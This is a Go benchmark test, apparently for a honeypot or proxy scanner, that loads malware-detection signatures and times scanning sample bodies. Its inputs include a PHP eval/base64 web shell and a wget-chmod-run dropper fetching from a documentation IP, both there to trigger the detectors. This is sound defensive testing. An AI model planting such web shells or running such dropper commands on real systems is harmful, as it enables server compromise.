@@ -0,0 +1,159 @@
+package stuffpot
+
+import (
+	"bytes"
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+// benchSignatures are signature rules of the kinds deployments load: web
+// shells, droppers, exploit kits and executables.
+const benchSignatures = `signatures:
+  - id: php-webshell
+    in: [request]
+    patterns:
+      - literal: "<?php"
+        nocase: true
+      - regex: "eval\\s*\\(\\s*(base64_decode|gzinflate|str_rot13)"
+        contains: [base64_decode, gzinflate, str_rot13]
+  - id: c99-shell
+    patterns:
+      - literal: "c99shell"
+        nocase: true
+  - id: r57-shell
+    patterns:
+      - literal: "r57shell"
+        nocase: true
+  - id: wso-shell
+    patterns:
+      - regex: "(?i)wso\\s*[0-9.]+\\s*shell|FilesMan"
+        contains: [wso, filesman]
+  - id: china-chopper
+    in: [request]
+    patterns:
+      - regex: "(?i)eval\\s*\\(\\s*\\$_(post|request|get)\\s*\\["
+        contains: [eval]
+  - id: jsp-webshell
+    patterns:
+      - literal: "Runtime.getRuntime().exec("
+  - id: aspx-webshell
+    patterns:
+      - regex: "(?i)<%@\\s*page\\s+language=\"?(c#|jscript)"
+        contains: ["<%@"]
+      - literal: "Process.Start"
+        nocase: true
+  - id: shell-dropper
+    patterns:
+      - regex: "(?i)(wget|curl)\\s+[^;|]*https?://[^;|&]*[;|&]+\\s*(chmod\\s+\\+?[0-7x]+|sh\\b|bash\\b)"
+        contains: [wget, curl]
+  - id: mirai-dropper
+    patterns:
+      - regex: "/bin/busybox\\s+[A-Z]{5,}"
+        contains: [/bin/busybox]
+  - id: coinminer
+    patterns:
+      - regex: "(?i)stratum\\+tcp://|xmrig|minerd"
+        contains: [stratum+tcp, xmrig, minerd]
+  - id: exploit-kit-landing
+    in: [response]
+    patterns:
+      - regex: "(?i)document\\.write\\s*\\(\\s*unescape\\s*\\(\\s*['\"]%u[0-9a-f]{4}"
+        contains: [unescape]
+  - id: java-deserialization
+    in: [request]
+    patterns:
+      - hex: "ac ed 00 05"
+        depth: 16
+  - id: elf-download
+    in: [response]
+    patterns:
+      - hex: "7f 45 4c 46"
+        depth: 4
+  - id: pe-download
+    in: [response]
+    patterns:
+      - literal: "MZ"
+        depth: 2
+      - literal: "This program cannot be run in DOS mode"
+        depth: 512
+  - id: spring4shell
+    in: [request]
+    patterns:
+      - literal: "class.module.classLoader"
+        nocase: true
+  - id: ognl-injection
+    in: [request]
+    patterns:
+      - regex: "%\\{\\(#|\\$\\{\\(#|@java\\.lang\\.Runtime@"
+        contains: ["%{(#", "${(#", "@java.lang.runtime@"]
+`
+
+// loadBenchRules loads the default rules and benchSignatures.
+func loadBenchRules(b *testing.B) *Rules {
+	b.Helper()
+	path := filepath.Join(b.TempDir(), "signatures.yaml")
+	if err := os.WriteFile(path, []byte(benchSignatures), 0o644); err != nil {
+		b.Fatal(err)
+	}
+	rules, err := loadRules([]string{path})
+	if err != nil {
+		b.Fatal(err)
+	}
+	return rules
+}
+
+// benchBodies are bodies as the proxy sees them, with the rules they match.
+func benchBodies() []struct {
+	name, location string
+	body           []byte
+	want           []string
+} {
+	page := []byte(strings.Repeat(`<div class="post"><h2><a href="/2024/06/01/hello-world/">Hello world!</a></h2>`+
+		`<p>Welcome to WordPress. This is your first post. Edit or delete it, then start writing!</p>`+
+		`<script src="/wp-includes/js/jquery/jquery.min.js?ver=3.7.1"></script></div>`+"\n", 64))
+	form := []byte("log=admin&pwd=hunter2&wp-submit=Log+In&redirect_to=https%3A%2F%2Fexample.com%2Fwp-admin%2F&testcookie=1")
+	api := []byte(`{"jsonrpc":"2.0","method":"eth_getBalance","params":["0x407d73d8a49eeb85d32cf465507dd71d507100c1",` +
+		`"latest"],"id":1}`)
+	shell := append(bytes.Repeat([]byte("POST padding to push the payload down the body. "), 1300),
+		[]byte(`<?php @eval(base64_decode($_POST['x'])); ?>`)...)
+	dropper := []byte("cd /tmp || cd /var/run; wget http://198.51.100.7/bins/x86 -O x; chmod +x x; ./x selfrep")
+	elf := append([]byte{0x7f, 'E', 'L', 'F', 2, 1, 1}, bytes.Repeat([]byte{0}, 32<<10)...)
+	return []struct {
+		name, location string
+		body           []byte
+		want           []string
+	}{
+		{"html-response", "response", page, nil},
+		{"login-form", "request", form, nil},
+		{"json-rpc", "request", api, nil},
+		{"webshell-upload", "request", shell, []string{"php-webshell"}},
+		{"dropper", "request", dropper, []string{"shell-dropper"}},
+		{"elf-response", "response", elf, []string{"elf-download"}},
+	}
+}
+
+// BenchmarkScanSignatures gives the cost per KB of scanning the bodies, with
+// the default rules and benchSignatures loaded.
+func BenchmarkScanSignatures(b *testing.B) {
+	rules := loadBenchRules(b)
+	for _, bb := range benchBodies() {
+		b.Run(fmt.Sprintf("%v-%dKB", bb.name, (len(bb.body)+1023)/1024), func(b *testing.B) {
+			var got []string
+			for _, m := range rules.signatures.scan(bb.body, bb.location) {
+				got = append(got, m.Tag)
+			}
+			if fmt.Sprint(got) != fmt.Sprint(bb.want) {
+				b.Fatalf("matched %v, want %v", got, bb.want)
+			}
+			b.SetBytes(int64(len(bb.body)))
+			b.ReportAllocs()
+			b.ResetTimer()
+			for i := 0; i < b.N; i++ {
+				rules.signatures.scan(bb.body, bb.location)
+			}
+		})
+	}
+}